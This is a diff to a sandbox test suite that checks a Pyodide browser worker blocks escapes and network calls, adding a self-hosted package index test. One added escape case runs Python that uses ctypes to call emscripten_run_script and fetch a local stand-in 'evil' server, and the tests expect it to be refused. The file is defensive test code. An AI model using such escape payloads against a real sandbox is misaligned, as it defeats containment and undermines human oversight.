@@ -3,6 +3,12 @@
 // model code; each must fail, be recorded, and a real local "exfiltration" server must receive nothing.
 // One page is cross-origin isolated (COOP/COEP: KeyboardInterrupt through a SharedArrayBuffer), the
 // other is not (a runaway cell costs a fresh worker).
+import { execFileSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Browser } from 'playwright-core';
 import type { CellResult } from '../src/sandbox/types.js';
@@ -31,6 +37,40 @@ let evil: CountingServer;
 const servers: StaticServer[] = [];
 let cleanupBuild: () => void = () => undefined;
 const boots: Record<string, CreateResult> = {};
+const indexDir = mkdtempSync(join(tmpdir(), 'localds-browser-index-'));
+
+/** A self-hosted package index: Pyodide's own lock plus one small pure-Python wheel built here. */
+function buildIndex(): void {
+  const wheelName = 'localds_probe-0.1-py3-none-any.whl';
+  // Laid out with Python's zipfile, as any build backend would (the package's deps have no zip writer).
+  execFileSync('python3', [
+    '-c',
+    `import sys, zipfile
+with zipfile.ZipFile(sys.argv[1], 'w') as z:
+    z.writestr('localds_probe/__init__.py', 'ANSWER = 42\\n')
+    z.writestr('localds_probe-0.1.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: localds-probe\\nVersion: 0.1\\n')
+    z.writestr('localds_probe-0.1.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
+    z.writestr('localds_probe-0.1.dist-info/RECORD', '')
+`,
+    join(indexDir, wheelName),
+  ]);
+  const wheel = readFileSync(join(indexDir, wheelName));
+  const lock = JSON.parse(
+    readFileSync(createRequire(import.meta.url).resolve('pyodide/pyodide-lock.json'), 'utf8'),
+  ) as { packages: Record<string, unknown> };
+  lock.packages['localds-probe'] = {
+    name: 'localds-probe',
+    version: '0.1',
+    file_name: wheelName,
+    install_dir: 'site',
+    sha256: createHash('sha256').update(wheel).digest('hex'),
+    package_type: 'package',
+    imports: ['localds_probe'],
+    depends: [],
+    unvendored_tests: false,
+  };
+  writeFileSync(join(indexDir, 'pyodide-lock.json'), JSON.stringify(lock));
+}
 
 function booted(result: CreateResult): Extract<CreateResult, { bootMs: number }> {
   if ('error' in result) throw new Error(result.error);
@@ -45,7 +85,11 @@ beforeAll(async () => {
   evil = await countingServer();
   const page = await buildTestPage();
   cleanupBuild = page.cleanup;
-  servers.push(await serveTestPage(page.outDir, false), await serveTestPage(page.outDir, true));
+  buildIndex();
+  servers.push(
+    await serveTestPage(page.outDir, false, { index: indexDir }),
+    await serveTestPage(page.outDir, true),
+  );
   browser = await launchChromium();
   plain = await PageDriver.open(browser, servers[0]!.origin);
   isolated = await PageDriver.open(browser, servers[1]!.origin);
@@ -62,6 +106,7 @@ afterAll(async () => {
   await Promise.all(servers.map((s) => s.close()));
   await evil?.close();
   cleanupBuild();
+  rmSync(indexDir, { recursive: true, force: true });
 });
 
 describe('browser-worker sandbox: start', () => {
@@ -86,6 +131,26 @@ describe('browser-worker sandbox: start', () => {
       error: expect.stringMatching(/could not load Pyodide packages numpy/),
     });
     await plain.dispose('nopkg');
+  }, 60_000);
+
+  it('loads packages from a self-hosted index before model code, which cannot reach the index itself', async () => {
+    const origin = servers[0]!.origin;
+    booted(
+      await plain.create('pkg', {
+        packages: ['localds-probe'],
+        packageIndexUrl: `${origin}/index/`,
+      }),
+    );
+    expect(resultText(await plain.run('pkg', 'import localds_probe\nlocalds_probe.ANSWER'))).toBe(
+      '42',
+    );
+    const index = await plain.run(
+      'pkg',
+      `from pyodide.http import pyfetch\nr = await pyfetch("${origin}/index/pyodide-lock.json")\nr.status`,
+    );
+    expect(resultText(index)).toBe('403');
+    expect(index.requests).toEqual([expect.objectContaining({ allowed: false, status: 403 })]);
+    await plain.dispose('pkg');
   }, 60_000);
 });
 
@@ -151,6 +216,8 @@ describe('browser-worker sandbox: escapes (code generation blocked, the default)
     says?: string;
     /** the method or API name the refusal is recorded under */
     recorded: string;
+    /** a cell that leaves the interpreter unusable ends by the watchdog instead of raising */
+    endsBy?: { status: 'timeout'; timeoutMs: number };
   }
   const obj = 'dict_converter=js.Object.fromEntries';
   const escapes: Escape[] = [
@@ -282,12 +349,24 @@ describe('browser-worker sandbox: escapes (code generation blocked, the default)
       says: 'Cannot redefine property: fetch',
       recorded: 'GET',
     },
+    {
+      // emscripten_run_script evals a C string; the refusal is a JS throw inside a wasm call, which
+      // Pyodide treats as fatal, so the cell ends by the watchdog and a fresh worker.
+      name: 'ctypes calling emscripten_run_script',
+      code: () =>
+        `import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch('${evilUrl()}/ctypes')")`,
+      recorded: 'eval',
+      endsBy: { status: 'timeout', timeoutMs: 3000 },
+    },
   ];
 
   for (const escape of escapes) {
     it(`refuses ${escape.name} and records it`, async () => {
-      const result = await plain.run('main', escape.code());
-      if (escape.result !== undefined) {
+      const result = await plain.run('main', escape.code(), escape.endsBy?.timeoutMs);
+      if (escape.endsBy) {
+        expect(result.status).toBe(escape.endsBy.status);
+        expect(result.stateLost).toBe(true);
+      } else if (escape.result !== undefined) {
         expect(resultText(result)).toBe(escape.result);
         if (escape.says) expect(streamText(result)).toContain(escape.says);
       } else {
